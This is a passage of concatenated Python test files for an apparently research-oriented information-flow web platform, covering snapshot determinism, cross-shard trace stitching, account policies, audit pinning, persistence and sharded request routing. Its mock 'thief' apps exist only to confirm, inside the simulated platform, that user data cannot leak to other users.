        p.set_profile("bob", bio="hi")
        p.set_profile("bob", music="jazz")
        p.pin_audited("bob", "social", "1.0")
        p.pin_audited("bob", "blog", "1.0")
    return p


class TestByteDeterminism:
    def test_order_independent_bytes(self):
        a = json.dumps(snapshot_provider(build("forward")))
        b = json.dumps(snapshot_provider(build("reverse")))
        assert a == b

    def test_grants_are_sorted(self):
        state = snapshot_provider(build("forward"))
        keys = [(g["owner"], g["tag_id"], g["declassifier"])
                for g in state["grants"]]
        assert keys == sorted(keys)

    def test_module_preferences_key_sorted(self):
        state = snapshot_provider(build("reverse"))
        bob = next(a for a in state["accounts"]
                   if a["username"] == "bob")
        assert list(bob["module_preferences"]) == \
            sorted(bob["module_preferences"])
        assert list(bob["audited_versions"]) == \
            sorted(bob["audited_versions"])

    def test_skipped_grants_are_sorted(self):
        from repro.declassify import ViewerPredicate
        p = build("forward")
        p.grant_declassifier(
            "bob", ViewerPredicate({"predicate": lambda o, v, a: True}))
        p.grant_declassifier(
            "amy", ViewerPredicate({"predicate": lambda o, v, a: True}))
        skipped = snapshot_provider(p)["skipped_grants"]
        assert skipped == sorted(
            skipped, key=lambda r: (r["owner"], r["declassifier"]))

    def test_revoke_and_regrant_is_byte_stable(self):
        """Insertion history (revoke + regrant churn) must not leak
        into the serialized grant order."""
        a = build("forward")
        b = build("forward")
        grant = b.declass.grant_for("bob", "friends-only")
        b.declass.revoke("bob", grant.tag,
                         declassifier_name="friends-only")
        b.grant_builtin_declassifier("bob", "friends-only",
                                     {"friends": ["amy"]})
        assert json.dumps(snapshot_provider(a)) == \
            json.dumps(snapshot_provider(b))
