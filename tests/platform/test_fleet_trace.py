"""Cross-shard trace propagation and stitching (M16).

A batch fanned across shards used to produce N disconnected per-shard
traces; since M16 the router opens one ``router.batch`` root, ships its
:class:`~repro.obs.TraceContext` with each sub-batch, and grafts the
returned skeletons into one causal tree.  These tests pin the stitch:
exactly one root per request, deterministic merge order (differential
vs the serial engine), skeletons surviving the fork engine's pipe, and
counted — never silent — span loss under the overflow budget.
"""

import os

import pytest

from repro.apps import install_standard_apps
from repro.net import ExternalClient
from repro.net.http import HttpRequest
from repro.obs import Tracer, validate_chrome_trace
from repro.obs.export import chrome_trace
from repro.platform import ShardedProvider

USERS = ["alice", "bob", "carol", "dave"]


def build_traced(n_shards, engine, users=USERS, fold_every=1):
    sp = ShardedProvider(n_shards=n_shards, engine=engine, tracing=True)
    sp.tracer.fold_every = fold_every
    install_standard_apps(sp)
    clients = {}
    for u in users:
        c = ExternalClient(u, sp.transport())
        c.post("/signup", params={"username": u, "password": "pw"})
        c.login("pw")
        c.post("/policy/enable", params={"app": "blog"})
        clients[u] = c
    return sp, clients


def cross_shard_batch(sp, clients):
    """One blog post per user, spanning >= 2 shards."""
    reqs = [HttpRequest("POST", "/app/blog/post",
                        params={"title": f"{u}-t", "body": "b"},
                        cookies=dict(c.cookies))
            for u, c in sorted(clients.items())]
    shards = {sp.map.shard_of_user(u) for u in clients}
    assert len(shards) >= 2, "test users must span shards"
    return reqs


def stitched_batches(sp):
    """The router recorder's router.batch trace dicts."""
    return [t for t in sp.recorder.dump()["slowest"]
            if t["root"] and t["root"]["name"] == "router.batch"]


def shape(span):
    """A trace subtree reduced to its deterministic skeleton."""
    return (span["name"], span["attrs"].get("origin"),
            [shape(c) for c in span["children"]])


class TestStitchedTree:
    def test_one_root_per_request(self):
        sp, clients = build_traced(2, "serial")
        reqs = cross_shard_batch(sp, clients)
        resps = sp.handle_batch(reqs)
        assert all(r.status == 200 for r in resps)
        (batch,) = stitched_batches(sp)
        root = batch["root"]
        assert root["attrs"]["n"] == len(reqs)
        assert root["attrs"]["shards"] == 2
        # every request's trace arrives as exactly one grafted child
        # under the router root: one root per request, no orphans
        grafted = [c for c in root["children"] if "origin" in c["attrs"]]
        assert len(grafted) == len(reqs)
        assert batch["grafts"] == len(reqs)
        assert batch["orphan_grafts"] == 0
        origins = {c["attrs"]["origin"] for c in grafted}
        assert origins == {"shard:0", "shard:1"}
        for child in grafted:
            assert child["name"].startswith("POST /app/blog/post")
            assert "remote_trace_id" in child["attrs"]
            # the fold decision traveled: full subtree, not root-only
            assert child["children"]

    def test_chrome_export_of_stitched_tree(self):
        sp, clients = build_traced(2, "serial")
        sp.handle_batch(cross_shard_batch(sp, clients))
        (batch,) = stitched_batches(sp)
        doc = chrome_trace([batch])
        assert validate_chrome_trace(doc) is None
        names = {e["name"] for e in doc["traceEvents"]}
        assert "router.batch" in names
        assert any(n.startswith("POST /app/blog/post") for n in names)

    def test_merged_report_counts_all_spans(self):
        sp, clients = build_traced(2, "serial")
        before = sp.trace_report()["stats"]["traces_finished"]
        sp.handle_batch(cross_shard_batch(sp, clients))
        report = sp.trace_report()
        assert report["tracing"] is True
        # merged stats grew by the router root + one trace per request
        assert report["stats"]["traces_finished"] - before == 1 + len(USERS)
        assert "router.batch" in report["latencies"]
        assert any(name.startswith("POST /app/blog/post")
                   for name in report["latencies"])
        # the deprecated per-shard alias is still the raw broadcast
        assert len(report["shards"]) == 2
        assert all(r["tracing"] for r in report["shards"])
        # the stitched doc counts every shard-side span it absorbed
        (batch,) = stitched_batches(sp)
        assert batch["n_spans"] > 1 + len(USERS)

    def test_single_shard_report_keeps_merged_shape(self):
        sp, clients = build_traced(1, "serial", users=["alice"])
        clients["alice"].post("/app/blog/post",
                              params={"title": "t", "body": "b"})
        report = sp.trace_report()
        assert report["tracing"] is True
        assert report["stats"]["traces_finished"] >= 1
        assert len(report["shards"]) == 1

    def test_tracing_off_report(self):
        sp = ShardedProvider(n_shards=2, engine="serial", tracing=False)
        assert sp.trace_report() == {
            "tracing": False,
            "shards": [{"tracing": False}, {"tracing": False}]}

    def test_health_report_shape(self):
        sp, clients = build_traced(2, "serial")
        sp.handle_batch(cross_shard_batch(sp, clients))
        report = sp.health_report()
        assert report["state"] == "ok"
        assert [r["state"] for r in report["shards"]] == ["ok", "ok"]
        assert report["router"]["engine"] == "serial"


class TestDeterministicMerge:
    def test_serial_and_thread_stitch_identically(self):
        """The graft order is (shard, request-order) — the same
        deterministic merge as the M13 audit view — so the stitched
        shape is engine-independent even though the thread engine
        finishes shards in racy order."""
        trees = {}
        for engine in ("serial", "thread"):
            sp, clients = build_traced(2, engine)
            sp.handle_batch(cross_shard_batch(sp, clients))
            (batch,) = stitched_batches(sp)
            trees[engine] = shape(batch["root"])
        assert trees["serial"] == trees["thread"]


needs_fork = pytest.mark.skipif(not hasattr(os, "fork"),
                                reason="fork engine needs os.fork")


@needs_fork
class TestForkEngine:
    def test_child_spans_ship_back_over_the_pipe(self):
        sp, clients = build_traced(2, "fork")
        try:
            reqs = cross_shard_batch(sp, clients)
            resps = sp.handle_batch(reqs)
            assert all(r.status == 200 for r in resps)
            (batch,) = stitched_batches(sp)
            grafted = [c for c in batch["root"]["children"]
                       if "origin" in c["attrs"]]
            assert len(grafted) == len(reqs)
            assert batch["orphan_grafts"] == 0
            # the skeletons carry real child spans from the forked
            # process, not just bare roots
            assert all(c["children"] for c in grafted)
        finally:
            sp.shutdown()

    def test_overflow_budget_is_counted_not_silent(self, monkeypatch):
        """A forked shard that hits the per-trace span budget reports
        the loss: ``truncated`` rides the skeleton back through the
        pipe and ``spans_dropped`` survives the stats merge."""
        orig = Tracer.__init__

        def tiny(self, max_spans=3, fold_every=1):
            orig(self, max_spans=max_spans, fold_every=fold_every)

        monkeypatch.setattr(Tracer, "__init__", tiny)
        sp, clients = build_traced(2, "fork")  # forks inherit the cap
        try:
            sp.handle_batch(cross_shard_batch(sp, clients))
            (batch,) = stitched_batches(sp)
            assert batch["truncated"] > 0, "overflow lost silently"
            report = sp.trace_report()
            assert report["stats"]["spans_dropped"] > 0
        finally:
            sp.shutdown()


class TestAnalysisOnMergedReport:
    def test_tracecmd_finds_router_recorder(self):
        """The trace CLI reads the stitched trees from a merged
        sharded report (recorder nested under ``router``, M16) just
        like a flat single-provider report."""
        from repro.analysis.tracecmd import kept_traces, render_trace_report

        sp, clients = build_traced(2, "serial")
        sp.handle_batch(cross_shard_batch(sp, clients))
        report = sp.trace_report()
        assert "recorder" not in report  # merged shape: nested
        kept = kept_traces(report)
        assert any(t["root"]["name"] == "router.batch" for t in kept)
        doc = chrome_trace(kept)
        assert validate_chrome_trace(doc) is None
        assert "router.batch" in render_trace_report(report)
