"""Unit tests for the Provider meta-application."""

import pytest

from repro.labels import Label
from repro.net import ExternalClient, HttpRequest
from repro.platform import (AppModule, NoSuchApp, NoSuchUser, PlatformError,
                            Provider)


@pytest.fixture()
def provider():
    return Provider()


def echo_app(ctx):
    return {"viewer": ctx.viewer, "path": ctx.request.path}


def my_notes_app(ctx):
    """Reads/writes the viewer's own notes file."""
    account_home = f"/users/{ctx.viewer}"
    # Touching anything under the user's home taints the process with
    # the user's tag (the home directory itself is secret).
    ctx.read_user(ctx.viewer)
    note = ctx.request.param("note")
    if note is not None:
        ctx.fs.create(f"{account_home}/note.txt",
                      note,
                      slabel=Label([ctx.tag_for(ctx.viewer)]),
                      ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
        return {"saved": True}
    return {"note": ctx.fs.read(f"{account_home}/note.txt")}


class TestAccounts:
    def test_signup_creates_tags_and_home(self, provider):
        acct = provider.signup("bob", "pw")
        assert acct.data_tag.owner == "bob"
        assert acct.write_tag.kind == "integrity"
        assert provider.read_user_data  # home exists; upload works below

    def test_duplicate_signup(self, provider):
        provider.signup("bob", "pw")
        with pytest.raises(PlatformError):
            provider.signup("bob", "pw2")

    def test_unknown_account(self, provider):
        with pytest.raises(NoSuchUser):
            provider.account("ghost")

    def test_usernames_sorted(self, provider):
        provider.signup("zed", "p")
        provider.signup("amy", "p")
        assert provider.usernames() == ["amy", "zed"]

    def test_store_and_read_user_data(self, provider):
        provider.signup("bob", "pw")
        provider.store_user_data("bob", "photo.jpg", b"bits")
        assert provider.read_user_data("bob", "photo.jpg") == b"bits"

    def test_profile(self, provider):
        provider.signup("bob", "pw")
        provider.set_profile("bob", music="jazz", food="ramen")
        assert provider.account("bob").profile["music"] == "jazz"


class TestPolicy:
    def test_enable_app_requires_registration(self, provider):
        provider.signup("bob", "pw")
        with pytest.raises(NoSuchApp):
            provider.enable_app("bob", "ghost-app")

    def test_enable_records_adoption(self, provider):
        provider.signup("bob", "pw")
        provider.register_app(AppModule("echo", "dev", echo_app))
        provider.enable_app("bob", "echo")
        assert provider.adoptions == [("bob", "echo")]
        assert provider.account("bob").has_enabled("echo")

    def test_enable_without_write(self, provider):
        provider.signup("bob", "pw")
        provider.register_app(AppModule("echo", "dev", echo_app))
        provider.enable_app("bob", "echo", allow_write=False)
        assert not provider.account("bob").allows_write("echo")

    def test_disable_app(self, provider):
        provider.signup("bob", "pw")
        provider.register_app(AppModule("echo", "dev", echo_app))
        provider.enable_app("bob", "echo")
        provider.disable_app("bob", "echo")
        assert not provider.account("bob").has_enabled("echo")

    def test_prefer_module(self, provider):
        provider.signup("bob", "pw")
        provider.register_app(AppModule("crop", "devA", echo_app,
                                        kind="module"))
        provider.prefer_module("bob", "cropper", "crop")
        assert provider.account("bob").preferred_module("cropper") == "crop"

    def test_grant_builtin_declassifier(self, provider):
        provider.signup("bob", "pw")
        provider.grant_builtin_declassifier("bob", "friends-only",
                                            {"friends": ["amy"]})
        assert len(provider.declass.grants_for("bob")) == 1

    def test_unknown_builtin_declassifier(self, provider):
        provider.signup("bob", "pw")
        with pytest.raises(NoSuchApp):
            provider.grant_builtin_declassifier("bob", "quantum")

    def test_revoke_declassifier(self, provider):
        provider.signup("bob", "pw")
        provider.grant_builtin_declassifier("bob", "public")
        assert provider.revoke_declassifier("bob") == 1


class TestLaunchCaps:
    def test_caps_reflect_enablement(self, provider):
        """Reads are union-based; writes are viewer-scoped."""
        provider.signup("bob", "pw")
        provider.signup("amy", "pw")
        app = provider.register_app(AppModule("echo", "dev", echo_app))
        provider.enable_app("bob", "echo", allow_write=True)
        provider.enable_app("amy", "echo", allow_write=True)
        bob, amy = provider.account("bob"), provider.account("amy")
        caps = provider.launch_caps(app, viewer="bob")
        # reads for every enabled user (commingling)
        assert caps.can_add(bob.data_tag) and caps.can_add(amy.data_tag)
        # writes only for the driving viewer
        assert caps.can_add(bob.write_tag)
        assert not caps.can_add(amy.write_tag)

    def test_write_needs_viewer_grant(self, provider):
        provider.signup("bob", "pw")
        app = provider.register_app(AppModule("echo", "dev", echo_app))
        provider.enable_app("bob", "echo", allow_write=False)
        caps = provider.launch_caps(app, viewer="bob")
        assert not caps.can_add(provider.account("bob").write_tag)

    def test_anonymous_launch_gets_no_writes(self, provider):
        provider.signup("bob", "pw")
        app = provider.register_app(AppModule("echo", "dev", echo_app))
        provider.enable_app("bob", "echo", allow_write=True)
        caps = provider.launch_caps(app, viewer=None)
        assert caps.can_add(provider.account("bob").data_tag)
        assert not caps.can_add(provider.account("bob").write_tag)

    def test_no_enablement_no_caps(self, provider):
        provider.signup("bob", "pw")
        app = provider.register_app(AppModule("echo", "dev", echo_app))
        assert len(provider.launch_caps(app, viewer="bob")) == 0


class TestHttpPipeline:
    def _client(self, provider, username, password="pw"):
        c = ExternalClient(username, provider.transport())
        return c

    def test_signup_login_via_http(self, provider):
        c = self._client(provider, "bob")
        r = c.post("/signup", params={"username": "bob", "password": "pw"})
        assert r.ok
        r = c.login("pw")
        assert r.ok and c.logged_in()

    def test_bad_login(self, provider):
        c = self._client(provider, "bob")
        c.post("/signup", params={"username": "bob", "password": "pw"})
        r = c.post("/login", params={"username": "bob", "password": "no"})
        assert r.status == 400
        assert not c.logged_in()

    def test_app_dispatch(self, provider):
        provider.register_app(AppModule("echo", "dev", echo_app))
        c = self._client(provider, "bob")
        c.post("/signup", params={"username": "bob", "password": "pw"})
        c.login("pw")
        r = c.get("/app/echo/hello")
        assert r.body == {"viewer": "bob", "path": "/app/echo/hello"}

    def test_unknown_app_404(self, provider):
        c = self._client(provider, "bob")
        assert c.get("/app/ghost").status == 404

    def test_unknown_route_404(self, provider):
        c = self._client(provider, "bob")
        assert c.get("/blursed/route").status == 404

    def test_root_lists_apps(self, provider):
        provider.register_app(AppModule("echo", "dev", echo_app))
        c = self._client(provider, "anyone")
        r = c.get("/")
        assert "echo" in r.body["apps"]

    def test_apps_listing(self, provider):
        provider.register_app(AppModule("echo", "dev", echo_app,
                                        description="says hi"))
        c = self._client(provider, "x")
        r = c.get("/apps")
        assert r.body[0]["description"] == "says hi"

    def test_policy_requires_login(self, provider):
        provider.register_app(AppModule("echo", "dev", echo_app))
        c = self._client(provider, "bob")
        r = c.post("/policy/enable", params={"app": "echo"})
        assert r.status == 403

    def test_policy_enable_via_http(self, provider):
        provider.register_app(AppModule("echo", "dev", echo_app))
        c = self._client(provider, "bob")
        c.post("/signup", params={"username": "bob", "password": "pw"})
        c.login("pw")
        r = c.post("/policy/enable", params={"app": "echo"})
        assert r.ok
        assert provider.account("bob").has_enabled("echo")

    def test_logout(self, provider):
        c = self._client(provider, "bob")
        c.post("/signup", params={"username": "bob", "password": "pw"})
        c.login("pw")
        token = c.cookies["w5_session"]
        c.get("/logout")
        assert provider.sessions.resolve(token) is None


class TestAppDataFlow:
    def test_app_round_trips_own_user_data(self, provider):
        provider.register_app(AppModule("notes", "dev", my_notes_app))
        c = ExternalClient("bob", provider.transport())
        c.post("/signup", params={"username": "bob", "password": "pw"})
        c.login("pw")
        c.post("/policy/enable", params={"app": "notes"})
        r = c.get("/app/notes/save", note="remember the milk")
        assert r.ok and r.body == {"saved": True}
        r = c.get("/app/notes/read")
        assert r.body == {"note": "remember the milk"}

    def test_others_cannot_read_bobs_note_through_app(self, provider):
        provider.register_app(AppModule("notes", "dev", my_notes_app))
        bob = ExternalClient("bob", provider.transport())
        bob.post("/signup", params={"username": "bob", "password": "pw"})
        bob.login("pw")
        bob.post("/policy/enable", params={"app": "notes"})
        bob.get("/app/notes/save", note="SECRET-NOTE")

        def nosy_app(ctx):
            ctx.read_user("bob")
            return {"stolen": ctx.fs.read("/users/bob/note.txt")}

        provider.register_app(AppModule("nosy", "eve", nosy_app))
        eve = ExternalClient("eve", provider.transport())
        eve.post("/signup", params={"username": "eve", "password": "pw"})
        eve.login("pw")
        eve.post("/policy/enable", params={"app": "nosy"})
        r = eve.get("/app/nosy/go")
        # the nosy app could not even taint itself with bob's tag
        # (bob never enabled it), so it crashed on the label check
        assert r.status in (403, 500)
        assert not eve.ever_received("SECRET-NOTE")

    def test_enabled_app_can_read_but_export_is_blocked(self, provider):
        """The paper's key scenario: bob runs code of any pedigree over
        his data; the perimeter stops it leaking to others."""
        def thief_app(ctx):
            ctx.read_user("bob")
            return {"exfil": ctx.fs.read("/users/bob/note.txt")}

        provider.register_app(AppModule("notes", "dev", my_notes_app))
        provider.register_app(AppModule("thief", "eve", thief_app))
        bob = ExternalClient("bob", provider.transport())
        bob.post("/signup", params={"username": "bob", "password": "pw"})
        bob.login("pw")
        bob.post("/policy/enable", params={"app": "notes"})
        bob.post("/policy/enable", params={"app": "thief"})
        bob.get("/app/notes/save", note="SECRET-NOTE")

        # bob himself sees the output (it is his data)
        r = bob.get("/app/thief/go")
        assert r.ok and r.body["exfil"] == "SECRET-NOTE"

        # eve (the thief's developer, or anyone else) gets a 403
        eve = ExternalClient("eve", provider.transport())
        eve.post("/signup", params={"username": "eve", "password": "pw"})
        eve.login("pw")
        r = eve.get("/app/thief/go")
        assert r.status == 403
        assert not eve.ever_received("SECRET-NOTE")

    def test_crash_returns_500_without_internals(self, provider):
        def buggy(ctx):
            raise RuntimeError("stack with user data: SECRET")
        provider.register_app(AppModule("buggy", "dev", buggy))
        c = ExternalClient("x", provider.transport())
        r = c.get("/app/buggy/go")
        assert r.status == 500
        assert "SECRET" not in str(r.body)
