"""Tests for §3.2 audit pinning (run exactly the audited version)."""

import pytest

from repro.net import ExternalClient
from repro.platform import AppModule, NotAuthorized, Provider


def v1(ctx):
    return {"version": "1.0"}


def v2(ctx):
    return {"version": "2.0-with-surprise"}


@pytest.fixture()
def provider():
    p = Provider()
    p.register_app(AppModule("tool", "dev", v1, version="1.0"))
    p.signup("bob", "pw")
    p.enable_app("bob", "tool")
    return p


def client(provider, name="bob"):
    c = ExternalClient(name, provider.transport())
    c.login("pw")
    return c


class TestAuditPinning:
    def test_pin_survives_new_uploads(self, provider):
        bob = client(provider)
        provider.pin_audited("bob", "tool", "1.0")
        # the developer ships a new version the user has not audited
        provider.register_app(AppModule("tool", "dev", v2, version="2.0"))
        assert bob.get("/app/tool/go").body == {"version": "1.0"}

    def test_unpinned_user_gets_latest(self, provider):
        provider.register_app(AppModule("tool", "dev", v2, version="2.0"))
        bob = client(provider)
        assert bob.get("/app/tool/go").body["version"].startswith("2.0")

    def test_explicit_version_url_overrides_pin(self, provider):
        """A pinned user can still *deliberately* try a version by
        naming it in the URL — the pin protects defaults, not choice."""
        provider.register_app(AppModule("tool", "dev", v2, version="2.0"))
        provider.pin_audited("bob", "tool", "1.0")
        bob = client(provider)
        assert bob.get("/app/tool@2.0/go").body["version"].startswith("2.0")

    def test_unpin_restores_latest(self, provider):
        provider.register_app(AppModule("tool", "dev", v2, version="2.0"))
        provider.pin_audited("bob", "tool", "1.0")
        provider.unpin_audited("bob", "tool")
        bob = client(provider)
        assert bob.get("/app/tool/go").body["version"].startswith("2.0")

    def test_cannot_pin_closed_source(self, provider):
        provider.register_app(AppModule("blackbox", "dev", v1,
                                        source_open=False))
        with pytest.raises(NotAuthorized):
            provider.pin_audited("bob", "blackbox", "1.0")

    def test_cannot_pin_missing_version(self, provider):
        from repro.platform import NoSuchApp
        with pytest.raises(NoSuchApp):
            provider.pin_audited("bob", "tool", "9.9")

    def test_pin_is_per_user(self, provider):
        provider.register_app(AppModule("tool", "dev", v2, version="2.0"))
        provider.pin_audited("bob", "tool", "1.0")
        provider.signup("amy", "pw")
        provider.enable_app("amy", "tool")
        amy = client(provider, "amy")
        assert amy.get("/app/tool/go").body["version"].startswith("2.0")
