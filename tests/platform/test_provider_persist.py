"""Tests for whole-provider snapshot/restore."""

import json

import pytest

from repro.apps import STANDARD_CATALOG, install_standard_apps
from repro.declassify import ViewerPredicate
from repro.net import ExternalClient
from repro.platform import (PlatformError, Provider, restore_provider,
                            set_password, snapshot_provider)


@pytest.fixture()
def live_provider():
    p = Provider(name="prod")
    install_standard_apps(p)
    p.signup("bob", "pw")
    p.signup("amy", "pw")
    p.enable_app("bob", "blog")
    p.enable_app("amy", "blog")
    p.grant_builtin_declassifier("bob", "friends-only",
                                 {"friends": ["amy"]})
    p.grant_builtin_declassifier("amy", "friends-only",
                                 {"friends": ["bob"]})
    p.set_profile("bob", music="jazz")
    p.prefer_module("bob", "cropper", "crop-smart")
    p.endorse_module("blog")
    p.store_user_data("bob", "diary.txt", "day one")
    bob = ExternalClient("bob", p.transport())
    bob.login("pw")
    bob.get("/app/blog/post", title="t", body="hello")
    return p


def roundtrip(provider):
    state = json.loads(json.dumps(snapshot_provider(provider)))
    return restore_provider(state, app_catalog=STANDARD_CATALOG)


class TestSnapshotRestore:
    def test_snapshot_is_json_serializable(self, live_provider):
        json.dumps(snapshot_provider(live_provider))

    def test_accounts_restored(self, live_provider):
        p2, report = roundtrip(live_provider)
        bob = p2.account("bob")
        assert bob.has_enabled("blog")
        assert bob.profile["music"] == "jazz"
        assert bob.preferred_module("cropper") == "crop-smart"
        assert report["missing_apps"] == []

    def test_user_data_restored_with_labels(self, live_provider):
        p2, __ = roundtrip(live_provider)
        assert p2.read_user_data("bob", "diary.txt") == "day one"
        # and still protected: a stranger process cannot read it
        from repro.fs import FsView
        from repro.labels import SecrecyViolation
        snoop = p2.kernel.spawn_trusted("snoop")
        with pytest.raises(SecrecyViolation):
            FsView(p2.fs, snoop).read("/users/bob/diary.txt")

    def test_full_request_flow_after_restart(self, live_provider):
        """Re-set passwords, re-login, and the whole pipeline works:
        amy (friend) reads bob's restored blog post."""
        p2, __ = roundtrip(live_provider)
        set_password(p2, "amy", "newpw")
        amy = ExternalClient("amy", p2.transport())
        amy.login("newpw")
        r = amy.get("/app/blog/read", author="bob", title="t")
        assert r.ok and r.body["body"] == "hello"

    def test_policy_enforced_after_restart(self, live_provider):
        p2, __ = roundtrip(live_provider)
        set_password(p2, "bob", "x")
        p2.signup("eve", "pw")
        p2.enable_app("eve", "blog")
        eve = ExternalClient("eve", p2.transport())
        eve.login("pw")
        r = eve.get("/app/blog/read", author="bob", title="t")
        assert r.status == 403

    def test_sessions_do_not_survive(self, live_provider):
        p2, __ = roundtrip(live_provider)
        stale = ExternalClient("bob", p2.transport())
        stale.cookies["w5_session"] = "old-token"
        r = stale.post("/policy/enable", params={"app": "blog"})
        assert r.status == 403  # not logged in anymore

    def test_endorsements_and_ledgers_restored(self, live_provider):
        p2, __ = roundtrip(live_provider)
        assert p2.endorsements.is_endorsed("blog")
        assert ("bob", "blog") in p2.adoptions

    def test_nonbuiltin_grant_reported_not_restored(self, live_provider):
        live_provider.grant_declassifier(
            "bob", ViewerPredicate({"predicate": lambda o, v, a: True}))
        state = snapshot_provider(live_provider)
        assert any(g["declassifier"] == "viewer-predicate"
                   for g in state["skipped_grants"])
        p2, report = restore_provider(
            json.loads(json.dumps(state)), app_catalog=STANDARD_CATALOG)
        assert any(g["declassifier"] == "viewer-predicate"
                   for g in report["unrestored_grants"])
        names = {g.declassifier.name
                 for g in p2.declass.grants_for("bob")}
        assert names == {"friends-only"}

    def test_missing_app_reported(self, live_provider):
        state = json.loads(json.dumps(snapshot_provider(live_provider)))
        p2, report = restore_provider(state, app_catalog=[])  # no code!
        assert {"username": "bob", "app": "blog"} in report["missing_apps"]

    def test_set_password_guards(self, live_provider):
        p2, __ = roundtrip(live_provider)
        set_password(p2, "bob", "x")
        with pytest.raises(PlatformError):
            set_password(p2, "bob", "again")
        with pytest.raises(PlatformError):
            set_password(p2, "ghost", "x")

    def test_groups_survive_restart(self, live_provider):
        live_provider.groups.create("bob", "roommates")
        live_provider.groups.add_member("bob", "roommates", "amy",
                                        writer=True)
        p2, __ = roundtrip(live_provider)
        g = p2.groups.get("roommates")
        assert g.members == {"bob", "amy"}
        assert g.is_writer("amy")
        # the restored policy is live: removing amy updates exports
        p2.groups.remove_member("bob", "roommates", "amy")
        assert not p2.declass.may_release(g.data_tag, "amy")
        assert p2.declass.may_release(g.data_tag, "bob")

    def test_group_data_survives_and_is_protected(self, live_provider):
        from repro.net import ExternalClient
        live_provider.groups.create("bob", "roommates")
        live_provider.enable_app("bob", "club-board")
        bob = ExternalClient("bob", live_provider.transport())
        bob.login("pw")
        bob.get("/app/club-board/post", group="roommates",
                text="chores list")
        p2, __ = roundtrip(live_provider)
        set_password(p2, "bob", "x")
        bob2 = ExternalClient("bob", p2.transport())
        bob2.login("x")
        r = bob2.get("/app/club-board/read", group="roommates")
        assert r.ok
        assert r.body["board"][0]["text"] == "chores list"
        # non-members still blocked after the restart
        p2.signup("eve", "pw")
        p2.enable_app("eve", "club-board")
        eve = ExternalClient("eve", p2.transport())
        eve.login("pw")
        assert eve.get("/app/club-board/read",
                       group="roommates").status in (403, 500)

    def test_new_signups_after_restore_get_fresh_tags(self, live_provider):
        p2, __ = roundtrip(live_provider)
        carl = p2.signup("carl", "pw")
        existing_ids = {p2.account("bob").data_tag.tag_id,
                        p2.account("bob").write_tag.tag_id,
                        p2.account("amy").data_tag.tag_id,
                        p2.account("amy").write_tag.tag_id}
        assert carl.data_tag.tag_id not in existing_ids
