"""Unit tests for the M13 sharded request plane.

The differential proofs (byte-identity vs the single-threaded plane)
live in ``test_shard_differential.py``; this file pins the mechanisms:
the consistent-hash ring, request routing, the merged audit view, the
cross-shard ownership guards, and the engines' control-plane surface.
"""

import threading

import pytest

from repro.apps import install_standard_apps
from repro.core import W5System
from repro.core.metrics import Metrics
from repro.errors import CrossShardWrite
from repro.kernel.audit import AuditLog
from repro.net import SESSION_COOKIE, ExternalClient
from repro.net.http import HttpRequest
from repro.platform import ProviderConfig, ShardMap, ShardedProvider

USERS = ["alice", "bob", "carol", "dave", "erin", "frank"]


def build_sharded(n_shards, engine=None, users=USERS, apps=("blog",)):
    sp = ShardedProvider(n_shards=n_shards, engine=engine)
    install_standard_apps(sp)
    clients = {}
    for u in users:
        c = ExternalClient(u, sp.transport())
        c.post("/signup", params={"username": u, "password": "pw"})
        c.login("pw")
        for app in apps:
            c.post("/policy/enable", params={"app": app})
        clients[u] = c
    return sp, clients


class TestShardMap:
    def test_deterministic_across_instances(self):
        a, b = ShardMap(4), ShardMap(4)
        for u in USERS:
            assert a.shard_of_user(u) == b.shard_of_user(u)

    def test_single_shard_maps_everything_to_zero(self):
        m = ShardMap(1)
        assert {m.shard_of_user(u) for u in USERS} == {0}

    def test_ring_covers_every_shard(self):
        m = ShardMap(4)
        keys = [f"user{i}" for i in range(400)]
        counts = m.distribution(keys)
        assert len(counts) == 4 and all(c > 0 for c in counts)

    def test_distribution_is_roughly_balanced(self):
        m = ShardMap(4, replicas=64)
        counts = m.distribution([f"user{i}" for i in range(4000)])
        assert max(counts) < 3 * min(counts)

    def test_resize_moves_a_minority_of_keys(self):
        # the consistent-hashing property: going 4 -> 5 shards moves
        # roughly 1/5 of keys, nothing like the ~4/5 of `hash % N`
        keys = [f"user{i}" for i in range(2000)]
        m4, m5 = ShardMap(4), ShardMap(5)
        moved = sum(m4.shard_of(k) != m5.shard_of(k) for k in keys)
        assert moved < len(keys) // 2

    def test_pair_placement_follows_tag_owner(self):
        from repro.labels import Label
        sp, _ = build_sharded(3)
        for u in USERS:
            acct = sp.account(u)
            slabel = Label([acct.data_tag])
            expected = sp.map.shard_of_user(u)
            assert sp.map.shard_of_pair(slabel, Label.EMPTY) == expected

    def test_bad_shard_count_rejected(self):
        with pytest.raises(ValueError):
            ShardMap(0)


class TestRouting:
    def test_signup_and_login_route_by_username_param(self):
        sp, _ = build_sharded(3)
        for u in USERS:
            req = HttpRequest("POST", "/signup",
                              params={"username": u, "password": "x"})
            assert sp.shard_for(req) == sp.map.shard_of_user(u)

    def test_session_token_routes_to_home_shard(self):
        sp, clients = build_sharded(3)
        for u, c in clients.items():
            req = HttpRequest("GET", "/app/blog/list",
                              cookies=dict(c.cookies))
            assert sp.shard_for(req) == sp.map.shard_of_user(u)

    def test_logout_drops_token_mapping(self):
        sp, clients = build_sharded(3)
        token = clients["alice"].cookies[SESSION_COOKIE]
        assert token in sp._token_shard
        clients["alice"].post("/logout")
        assert token not in sp._token_shard

    def test_anonymous_request_with_user_param_routes_home(self):
        sp, _ = build_sharded(3)
        req = HttpRequest("GET", "/app/blog/read",
                          params={"author": "carol", "title": "t"})
        assert sp.shard_for(req) == sp.map.shard_of_user("carol")

    def test_data_lands_on_the_routed_shard(self):
        sp, clients = build_sharded(3)
        for u, c in clients.items():
            assert c.get("/app/blog/post", title=f"t-{u}", body="b").ok
        report = sp.placement_report()
        assert report["partitions"] >= len(USERS)
        assert report["misplaced"] == 0

    def test_every_shard_serves_the_catalog(self):
        sp, _ = build_sharded(3)
        names = [sorted(m.name for m in shard.apps) for shard in sp.shards]
        assert names[0] == names[1] == names[2]
        assert "blog" in names[0]

    def test_one_shard_short_circuits(self):
        sp, clients = build_sharded(1)
        assert sp.engine_name == "serial"
        assert sp._token_shard == {}  # no bookkeeping at 1 shard
        assert clients["alice"].get("/app/blog/list").ok


class TestBatchFanOut:
    def test_batch_responses_in_request_order(self):
        sp, clients = build_sharded(3)
        for u, c in clients.items():
            assert c.get("/app/blog/post", title=f"t-{u}", body="b").ok
        reqs = [HttpRequest("GET", "/app/blog/read",
                            params={"title": f"t-{u}"},
                            cookies=dict(clients[u].cookies))
                for u in USERS for _ in range(3)]
        resps = sp.handle_batch(reqs)
        assert len(resps) == len(reqs)
